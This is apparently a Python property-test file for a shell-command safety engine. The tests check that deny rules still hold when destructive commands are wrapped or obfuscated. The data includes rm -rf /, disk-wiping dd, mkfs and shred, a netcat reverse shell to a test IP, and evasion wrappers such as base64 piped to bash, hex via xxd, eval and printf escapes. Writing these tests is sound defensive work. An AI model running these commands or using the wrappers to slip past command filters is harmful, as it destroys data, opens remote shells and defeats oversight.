"""Property tests: wrapping or obfuscating a denied command never lowers its decision.

Two layers are checked with the same generators:

* parser + policy (level 0 + 4): an org ``Bash(...)`` deny rule still matches the
  command after any stack of supported wrappers and obfuscations;
* the whole engine (``shield.engine.Shield``): the decision's rank for the wrapped
  command is never lower than for the plain command.

The base commands are written here, not taken from the corpus. Hypothesis draws stacks
of one to three transformations; each transformation produces valid bash that runs the
same argv.
"""

from __future__ import annotations

import base64
import shlex
from collections.abc import Callable

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from shield.model import Context, Decision
from shield.parse import parse
from shield.policy import load_policy

pytestmark = pytest.mark.unit

# Commands that must never run; each is one simple command (an argv), so every wrapper applies.
DENIED_ARGVS: list[list[str]] = [
    ["rm", "-rf", "/"],
    ["rm", "-rf", "--no-preserve-root", "/"],
    ["rm", "-fr", "/etc"],
    ["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"],
    ["mkfs.ext4", "/dev/sda1"],
    ["shred", "-n", "3", "-z", "/dev/nvme0n1"],
    ["chmod", "-R", "777", "/"],
    ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"],
    ["deploy-prod", "--all"],  # denied only by the org policy below
]

ORG_POLICY = load_policy(
    """
name: property-test
deny:
  - Bash(rm -rf:*)
  - Bash(rm -fr:*)
  - Bash(dd:*)
  - Bash(mkfs.ext4:*)
  - Bash(shred:*)
  - Bash(chmod -R 777:*)
  - Bash(nc -e:*)
  - Bash(deploy-prod:*)
""",
    source="property-test.yaml",
)

Transform = Callable[[list[str]], str]


def _line(argv: list[str]) -> str:
    return shlex.join(argv)


def _xargs(argv: list[str]) -> str:
    # xargs appends what it reads to the command: feed the last word through echo.
    return f"echo {shlex.quote(argv[-1])} | xargs {_line(argv[:-1])}"


def _absolute(argv: list[str]) -> str:
    return _line([f"/bin/{argv[0]}", *argv[1:]])


def _empty_quotes(argv: list[str]) -> str:
    name = argv[0]
    return f"{name[0]}''{name[1:]} " + _line(argv[1:])


def _double_quotes(argv: list[str]) -> str:
    name = argv[0]
    return f'"{name[0]}"{name[1:]} ' + _line(argv[1:])


def _backslash(argv: list[str]) -> str:
    return "\\" + _line(argv)


def _ansi_c(argv: list[str]) -> str:
    escaped = "".join(f"\\x{ord(ch):02x}" for ch in argv[0])
    return f"$'{escaped}' " + _line(argv[1:])


def _printf_name(argv: list[str]) -> str:
    escaped = "".join(f"\\x{ord(ch):02x}" for ch in argv[0])
    return f"$(printf '{escaped}') " + _line(argv[1:])


def _backtick_name(argv: list[str]) -> str:
    return f"`echo {shlex.quote(argv[0])}` " + _line(argv[1:])


def _variable(argv: list[str]) -> str:
    return f"c={shlex.quote(argv[0])}; $c " + _line(argv[1:])


def _base64_pipe(argv: list[str]) -> str:
    payload = base64.b64encode(_line(argv).encode()).decode()
    return f"echo {payload} | base64 -d | bash"


def _shell_string(shell: str) -> Transform:
    return lambda argv: f"{shell} -c {shlex.quote(_line(argv))}"


def _eval(argv: list[str]) -> str:
    return f"eval {shlex.quote(_line(argv))}"


# Wrappers written in front of a command line: they compose with each other and with
# every transformation below.
ARGV_WRAPPERS: dict[str, str] = {
    "sudo": "sudo",
    "sudo -u root": "sudo -u root",
    "doas": "doas",
    "env": "env",
    "env VAR=1": "env LC_ALL=C",
    "nice -n 5": "nice -n 5",
    "timeout 10": "timeout 10",
    "nohup": "nohup",
    "busybox": "busybox",
    "command": "command",
    "exec": "exec",
}
FINAL_TRANSFORMS: dict[str, Transform] = {
    "xargs via echo": _xargs,
    "/bin/ absolute path": _absolute,
    "empty quotes": _empty_quotes,
    "double quotes": _double_quotes,
    "backslash": _backslash,
    "$'..' escapes": _ansi_c,
    "variable indirection": _variable,
    "printf substitution": _printf_name,
    "backtick substitution": _backtick_name,
    "plain": _line,
}
STRING_WRAPPERS: dict[str, Callable[[str], str]] = {
    "bash -c": lambda text: f"bash -c {shlex.quote(text)}",
    "sh -c": lambda text: f"sh -c {shlex.quote(text)}",
    "eval": lambda text: f"eval {shlex.quote(text)}",
    "base64 | bash": lambda text: f"echo {base64.b64encode(text.encode()).decode()} | base64 -d | bash",
    "hex | xxd | sh": lambda text: f"echo {text.encode().hex()} | xxd -r -p | sh",
    "here-string": lambda text: f"bash <<< {shlex.quote(text)}",
    "heredoc": lambda text: f"sh <<'EOF'\n{text}\nEOF",
}


@st.composite
def wrapped_commands(draw) -> tuple[list[str], str, list[str]]:
    """(base argv, wrapped command text, names of the transformations applied)."""
    argv = draw(st.sampled_from(DENIED_ARGVS))
    applied: list[str] = []
    prefixes = draw(st.lists(st.sampled_from(sorted(ARGV_WRAPPERS)), max_size=2))
    final_name = draw(st.sampled_from(sorted(FINAL_TRANSFORMS)))
    if final_name == "/bin/ absolute path" and prefixes and prefixes[-1] == "busybox":
        final_name = "plain"  # busybox resolves applet names, not paths
    text = FINAL_TRANSFORMS[final_name](argv)
    applied.append(final_name)
    # Argv wrappers go in front of the (possibly obfuscated) command line; a line that
    # starts with an assignment or pipeline cannot take a prefix, so wrap it as a string.
    for name in reversed(prefixes):
        if final_name in ("variable indirection", "xargs via echo"):
            text = STRING_WRAPPERS["sh -c"](text)
            applied.append("sh -c")
        text = f"{ARGV_WRAPPERS[name]} {text}"
        applied.append(name)
    for name in draw(st.lists(st.sampled_from(sorted(STRING_WRAPPERS)), max_size=2)):
        text = STRING_WRAPPERS[name](text)
        applied.append(name)
    return argv, text, applied


# Found by this test: a heredoc body whose command name is backslash-escaped.
HEREDOC_BACKSLASH = (["rm", "-rf", "/"], "sh <<'EOF'\n\\rm -rf /\nEOF", ["backslash", "heredoc"])


SETTINGS = settings(
    max_examples=150,
    deadline=None,  # never assert timing; pytest-timeout guards against hangs
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow],
)


@pytest.mark.parametrize("argv", DENIED_ARGVS, ids=lambda argv: argv[0])
def test_properties_org_deny_matches_every_plain_base_command(argv):
    assert ORG_POLICY.evaluate(parse(_line(argv)), agent=None, cwd=None).decision is Decision.DENY


SINGLE_TRANSFORMS: dict[str, Transform] = {
    **{
        name: (lambda argv, prefix=prefix: f"{prefix} {_line(argv)}")
        for name, prefix in ARGV_WRAPPERS.items()
    },
    **FINAL_TRANSFORMS,
    **{name: (lambda argv, wrap=wrap: wrap(_line(argv))) for name, wrap in STRING_WRAPPERS.items()},
}


@pytest.mark.parametrize("name", sorted(SINGLE_TRANSFORMS))
def test_properties_org_deny_survives_each_single_transformation(name):
    for argv in DENIED_ARGVS:
        text = SINGLE_TRANSFORMS[name](argv)
        outcome = ORG_POLICY.evaluate(parse(text), agent=None, cwd=None)
        assert outcome.decision is Decision.DENY, f"{name}: {text!r}"


@pytest.mark.timeout(120)
@SETTINGS
@given(wrapped_commands())
@example(HEREDOC_BACKSLASH)
def test_properties_org_deny_survives_stacked_wrappers(case):
    _argv, text, applied = case
    parsed = parse(text)
    outcome = ORG_POLICY.evaluate(parsed, agent=None, cwd=None)
    assert outcome.decision is Decision.DENY, (
        f"{applied}: {text!r} parsed as {[c.argv for c in parsed.commands]}"
    )


# --- the whole engine ------------------------------------------------------------------------


@pytest.fixture(scope="module")
def engine():
    from shield.engine import Shield

    return Shield(semantic=False)


def _rank(engine, text: str, policy=None) -> int:
    return engine.analyze(text, Context(policy=policy)).decision.rank


@pytest.mark.parametrize("argv", DENIED_ARGVS[:-1], ids=lambda argv: argv[0])
def test_properties_engine_blocks_every_plain_base_command(engine, argv):
    # The property below compares against the plain command; make sure that is strict.
    assert _rank(engine, _line(argv)) >= Decision.HARD_ASK.rank


@pytest.mark.timeout(300)
@SETTINGS
@given(case=wrapped_commands())
@example(case=HEREDOC_BACKSLASH)
def test_properties_engine_wrapping_never_lowers_the_decision(engine, case):
    argv, text, applied = case
    base = _rank(engine, _line(argv))
    wrapped = _rank(engine, text)
    assert wrapped >= base, f"{applied}: {text!r} ranks {wrapped} < {base}"


@pytest.mark.timeout(300)
@SETTINGS
@given(case=wrapped_commands())
def test_properties_engine_org_deny_survives_wrapping(engine, case):
    _argv, text, applied = case
    verdict = engine.analyze(text, Context(policy=ORG_POLICY))
    assert verdict.decision is Decision.DENY, f"{applied}: {text!r} -> {verdict.decision.value}"
    assert verdict.policy_version == ORG_POLICY.version


@pytest.fixture(scope="module")
def semantic_engine():
    from shield.engine import Shield

    return Shield(semantic=True)


@pytest.mark.timeout(300)
@settings(SETTINGS, max_examples=60)
@given(case=wrapped_commands())
def test_properties_engine_with_level_2_wrapping_never_lowers_the_decision(semantic_engine, case):
    # The CLI's default configuration: the semantic level must not pull a wrapped command down.
    argv, text, applied = case
    base = _rank(semantic_engine, _line(argv))
    wrapped = _rank(semantic_engine, text)
    assert wrapped >= base, f"{applied}: {text!r} ranks {wrapped} < {base}"
